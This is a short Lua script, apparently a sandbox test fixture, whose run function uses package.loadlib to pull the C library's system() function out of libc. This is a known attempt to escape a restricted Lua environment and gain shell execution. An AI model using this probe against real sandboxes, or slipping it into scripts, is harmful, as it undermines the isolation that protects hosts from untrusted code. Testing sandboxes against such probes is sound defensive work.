return {run = function()
  local p = require("package")
  return p.loadlib("/lib/x86_64-linux-gnu/libc.so.6", "system")
end}
